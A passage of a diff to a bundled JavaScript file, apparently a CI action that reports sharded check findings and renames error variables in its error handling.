+                setOutput('findings', String(report.findings.length));
+                setOutput('blocking', String(report.verdict.counts.blocking));
+                setOutput('report-file', inputs.reportFile);
+                notice(`Shard ${inputs.shard.index}/${inputs.shard.total}: ${report.findings.length} findings, ${report.verdict.counts.blocking} blocking. Upload ${inputs.reportFile}; the merge job (mode: merge) gives the verdict.`);
+                return;
+            }
             for (const note of await publish(ctx, report, check))
                 notice(note);
             setOutput('result', report.verdict.passed ? 'pass' : 'fail');
@@ -76651,14 +85663,14 @@ async function run() {
             throw error;
         }
     }
-    catch (error$1) {
-        if (error$1 instanceof ConfigurationError) {
-            for (const line of error$1.problems)
-                error(line);
-            setFailed(error$1.message);
+    catch (error) {
+        if (error instanceof ConfigurationError) {
+            for (const line of error.problems)
+                error$4(line);
+            setFailed(error.message);
         }
         else {
-            setFailed(`internal error (a bug, please report it): ${error$1?.stack ?? error$1}`);
+            setFailed(`internal error (a bug, please report it): ${error?.stack ?? error}`);
         }
     }
 }
